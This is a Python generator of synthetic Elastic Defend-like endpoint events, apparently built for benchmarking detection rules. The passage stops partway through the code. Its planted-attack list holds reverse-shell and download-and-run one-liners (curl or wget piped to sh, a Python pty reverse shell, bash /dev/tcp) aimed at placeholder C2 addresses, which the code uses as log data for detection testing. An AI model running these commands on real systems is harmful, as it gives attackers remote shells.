"""Seeded generator of Elastic Defend-like ECS endpoint events (process, network, file).

    python bench/generate.py --seed 7 --events 1000000 --hosts 120 --out bench/data/events.ndjson

The stream is a discrete-event simulation of a fleet: every host has long-running services (started before the
window, so they have no start events), cron jobs, interactive SSH sessions, health checks, package-manager runs and,
rarely, an attack. Processes form real trees: a child's `process.parent.*` is its parent's `process.*`, and network
and file events carry the `process.*` of the process that made them. Events come out in `@timestamp` order
(millisecond ISO 8601 strings, non-decreasing across the whole stream) and as `{"_index", "_id", "_source"}`
documents whose `_index` is the Elastic Defend data stream backing index of their category.

Nothing depends on `--events` except where the stream stops, so the first N events of a longer run are exactly a
run of N events with the same seed and hosts.

Planted activity, rare by design (each attack is one in tens of thousands of activities):
- `apt_backdoor`: an APT hook runs `sh -c "curl ... | sh"` (or `wget`, `python3 -c`, `bash -i >& /dev/tcp/...`);
  the shell's child connects out within a second: a true positive of the seed rule
  (`sequence by host.id with maxspan=5s [process ... parent apt ... -c] by process.entity_id
  [network ...] by process.parent.entity_id`).
- near misses of the seed rule: the `sh -c` shell itself connects (`/dev/tcp`, so the network event's parent is
  apt, not the shell), or the child connects after `sleep 7` (outside maxspan), and the benign APT hooks
  (`update-motd`, `needrestart`, `cnf-update-db`) whose children never connect.
- `reverse_shell`: a web service spawns `sh -c "bash -i >& /dev/tcp/..."` and that bash connects: a true positive
  of the `sequence by process.entity_id` query (a shell exec followed by a connection from the same process).
- benign hits of that query, which real fleets have: `wait-for-it.sh` style `/dev/tcp` port checks and health
  checks written as `sh -c "exec curl ..."` (the shell execs into curl, keeping its entity id).
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import heapq
import json
import random
import sys
import time
import zlib
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

DEFAULT_SEED = 7
DEFAULT_HOSTS = 120
DEFAULT_RATE = 3.0  # mean events per second per host
DEFAULT_START = "2026-11-29T00:00:00Z"
EVENTS_PER_ACTIVITY = 3.4  # measured mean
AGENT_VERSION = "8.15.3"
ECS_VERSION = "8.10.0"

# ---- vocabularies ------------------------------------------------------------------------------------------------------

LINUX_DISTROS = [
    # (os.name, os.family, os.platform, os.version, kernel, weight)
    ("Ubuntu", "ubuntu", "ubuntu", "22.04.4 LTS (Jammy Jellyfish)", "5.15.0-1064-aws", 5),
    ("Ubuntu", "ubuntu", "ubuntu", "24.04.1 LTS (Noble Numbat)", "6.8.0-1018-aws", 3),
    ("Debian GNU/Linux", "debian", "debian", "12 (bookworm)", "6.1.0-26-cloud-amd64", 2),
    ("Red Hat Enterprise Linux", "rhel", "rhel", "9.4 (Plow)", "5.14.0-427.37.1.el9_4.x86_64", 1),
]
ROLES = [("web", 30), ("app", 25), ("db", 8), ("k8s", 15), ("ci", 8), ("bastion", 4), ("batch", 10)]
FIRST_NAMES = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "nick", "olivia", "peggy", "quinn", "rupert", "sybil", "trent", "ursula", "victor", "wendy", "xavier", "yolanda", "zach", "amir", "bea", "chen", "dimitri", "emeka", "fatima", "goran", "hana", "ines", "jonas", "kofi", "lena", "mateo", "nadia", "oskar", "priya", "rafael", "sana", "tomas", "uma", "vikram", "wei", "yusuf", "zofia"]
HOST_WORDS = ["api", "web", "app", "db", "pg", "redis", "k8s-node", "ci-runner", "bastion", "batch", "etl", "worker", "cache", "search", "edge"]
DOCKER_IMAGES = ["nginx:1.27", "postgres:16", "redis:7.4", "python:3.12-slim", "node:20-alpine"]

# destination pools: (first two octets or prefix, weight); the attacker addresses use documentation ranges
EXTERNAL_PREFIXES = [
    "13.107", "13.225", "18.165", "34.120", "34.102", "35.186", "52.84", "52.216", "54.231", "104.16", "104.18",
    "140.82", "151.101", "172.64", "185.199", "142.250", "91.189", "185.125", "151.139", "199.232",
]
IPV6_PREFIXES = ["2606:4700::6810:", "2a00:1450:4001:82b::", "2600:1f18:24e6:b900::", "2620:2d:4000:1::", "2001:67c:1562::"]
APP_UPSTREAMS = [
    (5432, "int"), (5432, "int"), (6379, "int"), (6379, "int"), (443, "ext"), (443, "ext"), (9200, "int"), (9092, "int"),
    (3306, "int"), (27017, "int"), (11211, "int"), (8500, "int"), (4317, "int"), (8220, "ext"), (80, "ext"), (8443, "ext"),
]
UBUNTU_ARCHIVE = ["91.189.91.81", "91.189.91.82", "91.189.91.83", "185.125.190.36", "185.125.190.39"]
C2_ADDRESSES = ["198.51.100.23", "203.0.113.7", "203.0.113.88", "198.51.100.140", "192.0.2.77"]

SHELL_COMMANDS = [
    # (name, executable, [argv choices], network (port, kind) or None, file action or None, weight)
    ("ls", "/usr/bin/ls", [["ls", "-la"], ["ls", "-lh", "/var/log"], ["ls"], ["ls", "-1", "/etc/nginx/sites-enabled"]], None, None, 14),
    ("cat", "/usr/bin/cat", [["cat", "/etc/os-release"], ["cat", "/var/log/syslog"], ["cat", "config.yaml"]], None, None, 8),
    ("grep", "/usr/bin/grep", [["grep", "-r", "ERROR", "/var/log/app"], ["grep", "-i", "timeout", "app.log"]], None, None, 6),
    ("ps", "/usr/bin/ps", [["ps", "aux"], ["ps", "-ef"], ["ps", "-eo", "pid,cmd,%mem", "--sort=-%mem"]], None, None, 5),
    ("tail", "/usr/bin/tail", [["tail", "-n", "200", "/var/log/syslog"], ["tail", "-f", "/var/log/nginx/error.log"]], None, None, 5),
    ("vim", "/usr/bin/vim.basic", [["vim", "/etc/nginx/nginx.conf"], ["vim", "docker-compose.yml"], ["vim", ".bashrc"]], None, "edit", 4),
    ("curl", "/usr/bin/curl", [["curl", "-s", "https://api.github.com/repos/elastic/elasticsearch"], ["curl", "-I", "https://www.google.com"], ["curl", "-fsSL", "https://get.docker.com", "-o", "get-docker.sh"], ["curl", "-s", "http://localhost:9200/_cluster/health"]], (443, "ext"), None, 5),
    ("wget", "/usr/bin/wget", [["wget", "-q", "https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz"]], (443, "ext"), "download", 1),
    ("git", "/usr/bin/git", [["git", "pull"], ["git", "status"], ["git", "log", "--oneline", "-n", "20"], ["git", "fetch", "origin"]], (443, "ext"), None, 5),
    ("ssh", "/usr/bin/ssh", [["ssh", "deploy@10.0.3.17"], ["ssh", "-i", "~/.ssh/id_ed25519", "admin@10.1.2.40"]], (22, "int"), None, 2),
    ("python3", "/usr/bin/python3.10", [["python3", "manage.py", "migrate"], ["python3", "-m", "pip", "list"], ["python3", "scripts/report.py", "--since", "1d"]], (5432, "int"), None, 3),
    ("docker", "/usr/bin/docker", [["docker", "ps"], ["docker", "logs", "--tail", "50", "api"], ["docker", "compose", "up", "-d"]], None, None, 4),
    ("systemctl", "/usr/bin/systemctl", [["systemctl", "status", "nginx"], ["systemctl", "restart", "app"], ["systemctl", "list-units", "--failed"]], None, None, 4),
    ("journalctl", "/usr/bin/journalctl", [["journalctl", "-u", "app", "-n", "100"], ["journalctl", "-xe"]], None, None, 3),
    ("df", "/usr/bin/df", [["df", "-h"]], None, None, 3),
    ("du", "/usr/bin/du", [["du", "-sh", "/var/lib/docker"], ["du", "-sh", "*"]], None, None, 2),
    ("top", "/usr/bin/top", [["top"], ["top", "-b", "-n", "1"]], None, None, 2),
    ("kubectl", "/usr/local/bin/kubectl", [["kubectl", "get", "pods", "-A"], ["kubectl", "describe", "node"], ["kubectl", "logs", "deploy/api"]], (6443, "int"), None, 3),
    ("dig", "/usr/bin/dig", [["dig", "example.com"], ["dig", "+short", "api.internal.example"]], (53, "dns"), None, 1),
    ("tar", "/usr/bin/tar", [["tar", "czf", "/tmp/backup.tar.gz", "/etc/nginx"], ["tar", "xzf", "release.tar.gz"]], None, "create", 2),
    ("rm", "/usr/bin/rm", [["rm", "-f", "/tmp/backup.tar.gz"], ["rm", "-rf", "build"]], None, "delete", 2),
    ("nc", "/usr/bin/nc.openbsd", [["nc", "-zv", "10.0.3.17", "5432"]], (5432, "int"), None, 1),
]
CRON_JOBS = [
    # (command line of the sh -c, child name, child executable, child argv, network (port, kind) or None, file)
    ("cd / && run-parts --report /etc/cron.hourly", "run-parts", "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"], None, None),
    ("/usr/sbin/logrotate /etc/logrotate.conf", "logrotate", "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], None, "rotate"),
    ("command -v debian-sa1 > /dev/null && debian-sa1 1 1", "debian-sa1", "/usr/lib/sysstat/debian-sa1", ["/usr/lib/sysstat/debian-sa1", "1", "1"], None, "write"),
    ("/usr/bin/python3 /opt/scripts/backup.py --target s3", "python3", "/usr/bin/python3.10", ["/usr/bin/python3", "/opt/scripts/backup.py", "--target", "s3"], (443, "ext"), "write"),
    ("/usr/local/bin/node_exporter_textfile.sh > /var/lib/node_exporter/textfile.prom", "node_exporter_textfile.sh", "/usr/local/bin/node_exporter_textfile.sh", ["/bin/bash", "/usr/local/bin/node_exporter_textfile.sh"], None, "write"),
    ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "run-parts", "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.daily"], None, None),
    ("/usr/bin/certbot -q renew", "certbot", "/usr/bin/certbot", ["/usr/bin/python3", "/usr/bin/certbot", "-q", "renew"], (443, "ext"), None),
]
APT_BENIGN_HOOKS = [
    # (sh -c script, child name, child executable, child argv)
    ("/usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true", "update-motd-updates-available", "/usr/lib/update-notifier/update-motd-updates-available", ["/bin/sh", "/usr/lib/update-notifier/update-motd-updates-available"]),
    ("test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke -m u || true", "apt-pinvoke", "/usr/lib/needrestart/apt-pinvoke", ["/usr/lib/needrestart/apt-pinvoke", "-m", "u"]),
    ("if /usr/bin/test -w /var/lib/command-not-found/ -a -e /usr/lib/cnf-update-db; then /usr/lib/cnf-update-db > /dev/null; fi", "cnf-update-db", "/usr/lib/cnf-update-db", ["/usr/bin/python3", "/usr/lib/cnf-update-db"]),
    ("if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi", "touch", "/usr/bin/touch", ["touch", "/var/lib/update-notifier/dpkg-run-stamp"]),
    ("rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true", "rm", "/usr/bin/rm", ["rm", "-f", "/var/cache/apt/archives/partial/*.deb"]),
]
APT_PAYLOADS = [
    # (sh -c script, child name, child executable, child argv, port)
    ("curl -fsSL http://{c2}/x.sh | sh", "curl", "/usr/bin/curl", ["curl", "-fsSL", "http://{c2}/x.sh"], 80),
    ("wget -qO- http://{c2}:8080/p | bash", "wget", "/usr/bin/wget", ["wget", "-qO-", "http://{c2}:8080/p"], 8080),
    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{c2}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'", "python3", "/usr/bin/python3.10", ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"{c2}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")"], 4444),
    ("nohup bash -c 'bash -i >& /dev/tcp/{c2}/443 0>&1' >/dev/null 2>&1 &", "bash", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/{c2}/443 0>&1"], 443),
]
WINDOWS_APPS = [
    # (name, executable, argv, network (port, kind) or None, file or None, weight)
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", ["C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer"], (443, "ext"), "cache", 10),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", ["C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"], (443, "ext"), "cache", 5),
    ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", ["C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"], (443, "ext"), "cache", 4),
    ("Teams.exe", "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", ["C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"], (443, "ext"), None, 4),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", ["powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", "C:\\ProgramData\\scripts\\inventory.ps1"], (443, "ext"), None, 2),
    ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", ["C:\\Windows\\system32\\cmd.exe", "/c", "ipconfig /all"], None, None, 2),
    ("notepad.exe", "C:\\Windows\\System32\\notepad.exe", ["C:\\Windows\\system32\\notepad.exe", "C:\\Users\\{user}\\Documents\\notes.txt"], None, "doc", 2),
    ("Code.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", ["C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"], (443, "ext"), "doc", 3),
]
MAC_APPS = [
    ("Safari", "/Applications/Safari.app/Contents/MacOS/Safari", ["/Applications/Safari.app/Contents/MacOS/Safari"], (443, "ext"), "cache", 6),
    ("Slack", "/Applications/Slack.app/Contents/MacOS/Slack", ["/Applications/Slack.app/Contents/MacOS/Slack"], (443, "ext"), None, 4),
    ("zsh", "/bin/zsh", ["-zsh"], None, None, 3),
    ("git", "/usr/bin/git", ["git", "pull", "--rebase"], (443, "ext"), None, 3),
    ("brew", "/opt/homebrew/bin/brew", ["/opt/homebrew/bin/brew", "upgrade"], (443, "ext"), "download", 1),
    ("python3", "/opt/homebrew/bin/python3", ["python3", "-m", "pytest", "-q"], None, "doc", 2),
]


# ---- model -------------------------------------------------------------------------------------------------------------


class Proc:
    """A running process; `parent` is the Proc that forked it (None for pid 1)."""

    __slots__ = ("args", "command_line", "cwd", "entity_id", "executable", "name", "parent", "pid", "uid", "user")

    def __init__(self, entity_id, pid, name, executable, args, cwd, user, uid, parent) -> None:
        self.entity_id = entity_id
        self.pid = pid
        self.name = name
        self.executable = executable
        self.args = args
        self.command_line = " ".join(args)
        self.cwd = cwd
        self.user = user
        self.uid = uid
        self.parent = parent


class Host:
    __slots__ = (
        "agent_id",
        "arch",
        "cron",
        "exec_healthcheck",
        "id",
        "init",
        "ips",
        "name",
        "next_pid",
        "os",
        "os_type",
        "role",
        "seq",
        "services",
        "shell",
        "shell_exe",
        "sshd",
        "users",
        "uses_wait_for_it",
        "web_user",
        "weight",
    )


class Generator:
    """Iterates over `{"_index", "_id", "_source"}` documents in `@timestamp` order."""

    def __init__(
        self,
        seed: int = DEFAULT_SEED,
        hosts: int = DEFAULT_HOSTS,
        rate: float = DEFAULT_RATE,
        start: str = DEFAULT_START,
        attack_rate: float = 1.0,
    ) -> None:
        self.seed = seed
        self.rng = random.Random(seed)
        self.start_ms = int(datetime.fromisoformat(start.replace("Z", "+00:00")).timestamp() * 1000)
        day = datetime.fromtimestamp(self.start_ms / 1000, tz=UTC).strftime("%Y.%m.%d")
        self.index = {c: f".ds-logs-endpoint.events.{c}-default-{day}-000001" for c in ("process", "network", "file")}
        self.datasets = {c: f"endpoint.events.{c}" for c in ("process", "network", "file")}
        self.attack_rate = attack_rate
        self._heap: list[tuple] = []
        self._push_seq = 0
        self._sec = -1
        self._prefix = ""
        rng = self.rng
        self.internal_ips = [f"10.{rng.randrange(0, 4)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}" for _ in range(3000)]
        self.external_ips = [f"{rng.choice(EXTERNAL_PREFIXES)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}" for _ in range(6000)]
        self.external_v6 = [f"{rng.choice(IPV6_PREFIXES)}{rng.randrange(1, 0xFFFF):x}" for _ in range(800)]
        self.client_v6 = [f"2001:db8:{rng.randrange(0, 0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}" for _ in range(400)]
        self.hosts = [self._make_host(i) for i in range(hosts)]
        self._cum_weights = []
        total = 0.0
        for h in self.hosts:
            total += h.weight
            self._cum_weights.append(total)
        self._total_weight = total
        # the activity rate that gives about `rate` events per host per second
        self.activity_rate = hosts * rate / EVENTS_PER_ACTIVITY / 1000.0  # per millisecond
        self.produced = Counter()
        self.planted = Counter()  # attacks by kind, for the record

    # ---- hosts and processes --------------------------------------------------------------------------------------

    def _make_host(self, i: int) -> Host:
        rng = self.rng
        h = Host()
        h.id = f"{rng.getrandbits(128):032x}"
        h.agent_id = (f"{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-4{rng.getrandbits(12):03x}-"
                      f"{0x8000 | rng.getrandbits(14):04x}-{rng.getrandbits(48):012x}")
        roll = rng.random()
        h.os_type = "linux" if roll < 0.86 else ("windows" if roll < 0.95 else "macos")
        h.arch = "x86_64" if rng.random() < 0.85 else "aarch64"
        h.next_pid = rng.randrange(900, 3000)
        h.seq = rng.randrange(10_000, 5_000_000)
        h.weight = rng.lognormvariate(0, 0.6)
        h.ips = [f"10.{rng.randrange(0, 4)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}"]
        h.exec_healthcheck = False
        h.uses_wait_for_it = False
        h.services = []
        people = rng.sample(FIRST_NAMES, rng.randrange(1, 5))
        if h.os_type == "linux":
            name, family, platform, version, kernel, _ = rng.choices(LINUX_DISTROS, [d[-1] for d in LINUX_DISTROS])[0]
            h.role = rng.choices([r for r, _ in ROLES], [w for _, w in ROLES])[0]
            h.name = f"{h.role}-{rng.choice(['prod', 'prod', 'staging', 'dev'])}-{i:03d}"
            h.os = {"type": "linux", "name": name, "family": family, "platform": platform, "version": version,
                    "kernel": kernel, "full": f"{name} {version}"}
            h.users = ["root", "ubuntu" if family == "ubuntu" else "admin", "www-data", *people]
            h.shell, h.shell_exe = ("dash", "/usr/bin/dash") if family in ("ubuntu", "debian") else ("sh", "/usr/bin/sh")
            h.exec_healthcheck = rng.random() < 0.04
            h.uses_wait_for_it = h.role in ("app", "k8s", "ci") and rng.random() < 0.15
            h.web_user = "www-data" if family in ("ubuntu", "debian") else "nginx"
        elif h.os_type == "windows":
            h.role = "workstation"
            h.name = f"WIN-{rng.getrandbits(28):07X}"
            h.os = {"type": "windows", "name": "Windows 11 Enterprise", "family": "windows", "platform": "windows",
                    "version": "23H2", "kernel": "10.0.22631.4460 (WinBuild.160101.0800)", "full": "Windows 11 Enterprise 23H2"}
            h.users = ["SYSTEM", "NETWORK SERVICE", *people]
            h.shell, h.shell_exe = "cmd.exe", "C:\\Windows\\System32\\cmd.exe"
            h.web_user = "SYSTEM"
        else:
            h.role = "laptop"
            h.name = f"{people[0]}-mbp"
            h.os = {"type": "macos", "name": "macOS", "family": "darwin", "platform": "darwin", "version": "14.7.1",
                    "kernel": "23.6.0", "full": "macOS 14.7.1"}
            h.users = ["root", "_spotlight", *people]
            h.shell, h.shell_exe = "zsh", "/bin/zsh"
            h.web_user = people[0]
        self._boot(h)
        return h

    def _entity_id(self, h: Host, pid: int, start_ms: int) -> str:
        return base64.b64encode(f"{h.agent_id}-{pid}-{start_ms * 1_000_000}".encode()).decode()

    def _pid(self, h: Host) -> int:
        h.next_pid += self.rng.randrange(1, 12)
        if h.next_pid > 4_194_000:
            h.next_pid = 1000
        return h.next_pid

    def _proc(self, h, parent, name, exe, args, user, start_ms, cwd="/", pid=None) -> Proc:
        pid = pid if pid is not None else self._pid(h)
        uid = "0" if user in ("root", "SYSTEM") else str(1000 + (zlib.crc32(user.encode()) & 0x3FF))
        return Proc(self._entity_id(h, pid, start_ms), pid, name, exe, args, cwd, user, uid, parent)

    def _boot(self, h: Host) -> None:
        """Long-running processes, started before the window (so they never produce start events)."""
        boot = self.start_ms - self.rng.randrange(3_600_000, 40 * 86_400_000)
        P = self._proc
        if h.os_type == "linux":
            h.init = init = P(h, None, "systemd", "/usr/lib/systemd/systemd", ["/sbin/init"], "root", boot, pid=1)
            h.sshd = P(h, init, "sshd", "/usr/sbin/sshd", ["sshd:", "/usr/sbin/sshd", "-D", "[listener]", "0", "of", "10-100", "startups"], "root", boot + 2100)
            h.cron = P(h, init, "cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f", "-P"], "root", boot + 2300)
            resolved = P(h, init, "systemd-resolved", "/usr/lib/systemd/systemd-resolved", ["/lib/systemd/systemd-resolved"], "systemd-resolve", boot + 900)
            chrony = P(h, init, "chronyd", "/usr/sbin/chronyd", ["/usr/sbin/chronyd", "-F", "1"], "_chrony", boot + 950)
            journald = P(h, init, "systemd-journald", "/usr/lib/systemd/systemd-journald", ["/lib/systemd/systemd-journald"], "root", boot + 400)
            h.services = [(resolved, "dns", 3), (chrony, "ntp", 1), (journald, "journal", 4)]
            role = h.role
            if role in ("web", "app", "bastion"):
                master = P(h, init, "nginx", "/usr/sbin/nginx", ["nginx:", "master", "process", "/usr/sbin/nginx", "-g", "daemon on; master_process on;"], "root", boot + 3000)
                for _ in range(self.rng.randrange(2, 5)):
                    worker = P(h, master, "nginx", "/usr/sbin/nginx", ["nginx:", "worker", "process"], h.web_user, boot + 3010)
                    h.services.append((worker, "nginx", 6))
            if role in ("web", "app", "batch"):
                gunicorn = P(h, init, "gunicorn", "/opt/app/venv/bin/python3.11", ["/opt/app/venv/bin/python3.11", "/opt/app/venv/bin/gunicorn", "app.wsgi:application", "--bind", "127.0.0.1:8000", "--workers", "4"], "app", boot + 3500, cwd="/opt/app")
                for _ in range(4):
                    w = P(h, gunicorn, "gunicorn", "/opt/app/venv/bin/python3.11", gunicorn.args, "app", boot + 3600, cwd="/opt/app")
                    h.services.append((w, "app", 5))
                h.services.append((P(h, init, "node", "/usr/bin/node", ["/usr/bin/node", "/srv/worker/dist/index.js"], "app", boot + 3700, cwd="/srv/worker"), "node", 3))
            if role == "db":
                pg = P(h, init, "postgres", "/usr/lib/postgresql/16/bin/postgres", ["/usr/lib/postgresql/16/bin/postgres", "-D", "/var/lib/postgresql/16/main", "-c", "config_file=/etc/postgresql/16/main/postgresql.conf"], "postgres", boot + 2800)
                for _ in range(6):
                    h.services.append((P(h, pg, "postgres", "/usr/lib/postgresql/16/bin/postgres", ["postgres:", "16/main:", "app", "appdb", "10.0.1.12(53422)", "idle"], "postgres", boot + 4000), "pg", 6))
                h.services.append((P(h, init, "redis-server", "/usr/bin/redis-server", ["/usr/bin/redis-server", "127.0.0.1:6379"], "redis", boot + 2900), "redis", 4))
            if role in ("k8s", "ci"):
                containerd = P(h, init, "containerd", "/usr/bin/containerd", ["/usr/bin/containerd"], "root", boot + 2000)
                kubelet = P(h, init, "kubelet", "/usr/bin/kubelet", ["/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml", "--container-runtime-endpoint=unix:///run/containerd/containerd.sock"], "root", boot + 2500)
                h.services += [(containerd, "containerd", 3), (kubelet, "kubelet", 5)]
                shim = P(h, init, "containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2", ["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", f"{self.rng.getrandbits(256):064x}"], "root", boot + 5000)
                h.services.append((P(h, shim, "coredns", "/coredns", ["/coredns", "-conf", "/etc/coredns/Corefile"], "root", boot + 5100), "coredns", 3))
                h.services.append((P(h, shim, "node", "/usr/local/bin/node", ["node", "server.js"], "node", boot + 5200, cwd="/usr/src/app"), "node", 4))
            if role == "ci":
                h.services.append((P(h, init, "gitlab-runner", "/usr/bin/gitlab-runner", ["/usr/bin/gitlab-runner", "run", "--working-directory", "/home/gitlab-runner"], "gitlab-runner", boot + 3000), "runner", 3))
            if role == "batch":
                h.services.append((P(h, init, "java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Xmx4g", "-jar", "/opt/etl/etl.jar"], "etl", boot + 6000, cwd="/opt/etl"), "java", 4))
            h.services.append((P(h, init, "elastic-agent", "/opt/Elastic/Agent/elastic-agent", ["/opt/Elastic/Agent/elastic-agent"], "root", boot + 1500), "agent", 1))
        elif h.os_type == "windows":
            h.init = init = P(h, None, "System", "System", ["System"], "SYSTEM", boot, pid=4)
            services = P(h, init, "services.exe", "C:\\Windows\\System32\\services.exe", ["C:\\Windows\\system32\\services.exe"], "SYSTEM", boot + 800)
            svchost = P(h, services, "svchost.exe", "C:\\Windows\\System32\\svchost.exe", ["C:\\Windows\\system32\\svchost.exe", "-k", "netsvcs", "-p"], "SYSTEM", boot + 1200)
            dns = P(h, services, "svchost.exe", "C:\\Windows\\System32\\svchost.exe", ["C:\\Windows\\system32\\svchost.exe", "-k", "NetworkService", "-p", "-s", "Dnscache"], "NETWORK SERVICE", boot + 1250)
            defender = P(h, services, "MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", ["C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"], "SYSTEM", boot + 1300)
            h.sshd = h.cron = services
            h.services = [(svchost, "win", 4), (dns, "dns", 3), (defender, "defender", 2)]
        else:
            h.init = init = P(h, None, "launchd", "/sbin/launchd", ["/sbin/launchd"], "root", boot, pid=1)
            mds = P(h, init, "mds_stores", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Support/mds_stores", ["mds_stores"], "_spotlight", boot + 1000)
            h.sshd = h.cron = init
            h.services = [(mds, "journal", 3), (P(h, init, "mDNSResponder", "/usr/sbin/mDNSResponder", ["/usr/sbin/mDNSResponder"], "_mdnsresponder", boot + 500), "dns", 3)]

    # ---- emission ------------------------------------------------------------------------------------------------------

    def _push(self, ms: int, cat: str, action: str, etype: str, h: Host, p: Proc, extra: dict | None = None) -> None:
        self._push_seq += 1
        heapq.heappush(self._heap, (ms, self._push_seq, cat, action, etype, h, p, extra))

    def _iso(self, ms: int) -> str:
        sec, milli = divmod(ms, 1000)
        if sec != self._sec:
            self._sec = sec
            self._prefix = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
        return f"{self._prefix}.{milli:03d}Z"

    def _build(self, item: tuple) -> dict[str, Any]:
        ms, _, cat, action, etype, h, p, extra = item
        ts = self._iso(ms)
        h.seq += 1
        rng = self.rng
        if cat == "process":
            proc = {
                "entity_id": p.entity_id, "pid": p.pid, "name": p.name, "executable": p.executable,
                "args": list(p.args), "args_count": len(p.args), "command_line": p.command_line,
                "working_directory": p.cwd,
            }
            q = p.parent
            if q is not None:
                proc["parent"] = {
                    "entity_id": q.entity_id, "pid": q.pid, "name": q.name, "executable": q.executable,
                    "args": list(q.args), "args_count": len(q.args), "command_line": q.command_line,
                }
            if action == "end":
                proc["exit_code"] = 0 if rng.random() < 0.93 else rng.choice((1, 2, 127, 130, 143))
            message = "Endpoint process event"
        else:
            proc = {"entity_id": p.entity_id, "pid": p.pid, "name": p.name, "executable": p.executable}
            q = p.parent
            if q is not None:
                proc["parent"] = {"entity_id": q.entity_id, "pid": q.pid, "name": q.name, "executable": q.executable}
            message = "Endpoint network event" if cat == "network" else "Endpoint file event"
        source = {
            "@timestamp": ts,
            "agent": {"id": h.agent_id, "type": "endpoint", "version": AGENT_VERSION},
            "data_stream": {"dataset": self.datasets[cat], "namespace": "default", "type": "logs"},
            "ecs": {"version": ECS_VERSION},
            "event": {
                "action": action, "category": [cat], "type": [etype], "kind": "event", "module": "endpoint",
                "dataset": self.datasets[cat], "created": ts, "sequence": h.seq,
                "id": f"{rng.getrandbits(32):08X}-{rng.getrandbits(16):04X}-{rng.getrandbits(16):04X}",
            },
            "host": {
                "id": h.id, "name": h.name, "hostname": h.name, "architecture": h.arch, "os": dict(h.os),
                "ip": list(h.ips),
            },
            "process": proc,
            "user": {"name": p.user, "id": p.uid},
            "message": message,
        }
        if extra:
            source.update(extra)
        self.produced[cat] += 1
        return {"_index": self.index[cat], "_id": base64.urlsafe_b64encode(rng.getrandbits(120).to_bytes(15, "big")).decode(), "_source": source}

    def __iter__(self) -> Iterator[dict[str, Any]]:
        return self.events()

    def events(self, limit: int | None = None) -> Iterator[dict[str, Any]]:
        """The stream; `limit` stops it after that many documents (the prefix of the unlimited stream)."""
        rng = self.rng
        heap = self._heap
        expo = rng.expovariate
        rate = self.activity_rate
        t = float(self.start_ms)
        count = 0
        hosts = self.hosts
        cum = self._cum_weights
        total = self._total_weight
        from bisect import bisect
        while True:
            t += expo(rate)
            now = int(t)
            while heap and heap[0][0] <= now:
                yield self._build(heapq.heappop(heap))
                count += 1
                if limit is not None and count >= limit:
                    return
            h = hosts[bisect(cum, rng.random() * total)]
            self._activity(h, now)

    # ---- activities ----------------------------------------------------------------------------------------------------

    def _activity(self, h: Host, now: int) -> None:
        r = self.rng.random()
        if h.os_type == "linux":
            if r < 0.40:
                self._service_network(h, now)
            elif r < 0.74:
                self._service_file(h, now)
            elif r < 0.845:
                self._cron_job(h, now)
            elif r < 0.895:
                self._healthcheck(h, now)
            elif r < 0.945:
                self._ci_or_k8s_exec(h, now)
            elif r < 0.9495:
                self._ssh_session(h, now)
            elif r < 0.9497:
                self._apt_run(h, now, malicious=False)
            elif r < 0.9497 + 0.00006 * self.attack_rate:
                self._attack(h, now)
            else:
                self._service_network(h, now)
        else:
            if r < 0.45:
                self._service_network(h, now)
            elif r < 0.75:
                self._service_file(h, now)
            else:
                self._desktop_app(h, now)

    def _dest(self, kind: str) -> tuple[str, str]:
        """(destination ip, network.type) for a destination kind."""
        rng = self.rng
        if kind == "ext":
            if rng.random() < 0.07:
                return rng.choice(self.external_v6), "ipv6"
